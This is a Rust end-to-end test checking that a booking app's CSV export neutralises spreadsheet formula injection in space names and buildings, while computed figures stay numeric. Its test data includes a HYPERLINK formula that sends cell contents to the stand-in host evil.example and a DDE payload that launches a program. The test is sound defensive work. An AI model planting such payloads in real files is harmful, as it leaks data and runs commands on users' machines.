//! CSV exports open in spreadsheets, which run a cell that starts with `=`, `+`, `-` or `@` as a
//! formula: text that people typed (a space's name, its building) must come out as text, while
//! the figures Piazza computes stay numbers.

use crate::pages::{day_ahead, log_in, page};
use piazza_e2e::app::TestApp;
use reqwest::StatusCode;
use serde_json::json;

#[tokio::test]
async fn a_space_named_like_a_formula_is_exported_as_text() {
    let app = TestApp::builder()
        .services(&[piazza_booking::SERVICE])
        .spawn()
        .await;
    let admin = app.admin().await;
    let names = [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Apri\")",
            "+cmd|' /C calc'!A0",
        ),
        ("@SUM(1+1)", "-2+3"),
        // Typed text, even one that reads as a negative number: names are trimmed, so tabs and
        // carriage returns cannot lead one (the writer's own tests cover them).
        ("=1+1", "-42"),
    ];
    for (name, building) in names {
        let (status, space) = app
            .post(
                "/api/v1/spaces",
                Some(&admin),
                &json!({
                    "name": name, "building": building, "address": "Via Dante 1, Cremona",
                    "kind": "room", "capacity": 10, "time_zone": "Europe/Rome",
                }),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{space}");
    }
    let (_, cookie) = log_in(&app, "admin@comune.test").await;
    let day = day_ahead();
    let (status, csv) = page(
        &app,
        &format!("/admin/indicators/spaces.csv?from={day}&to={day}"),
        &cookie,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{csv}");
    let cells: Vec<Vec<String>> = read_csv(&csv);
    assert_eq!(cells.len(), 4, "{csv}");
    for row in &cells[1..] {
        for text in &row[1..3] {
            assert!(
                text.starts_with('\''),
                "a typed text starting with a formula sign is neutralised: {text:?} in {csv}"
            );
        }
        // The figures stay numbers a spreadsheet can add up (no opening hours: 24 a day).
        assert_eq!(row[3], "24.00", "{csv}");
        assert_eq!(row[4], "0.00", "{csv}");
    }
    let names: Vec<&str> = cells[1..].iter().map(|r| r[1].as_str()).collect();
    assert!(
        names.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Apri\")"),
        "the text is kept, after the quote: {names:?}"
    );
    app.stop().await;
}

/// RFC 4180 cells, as a spreadsheet reads them (quoted cells may hold commas, quotes, line ends).
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}
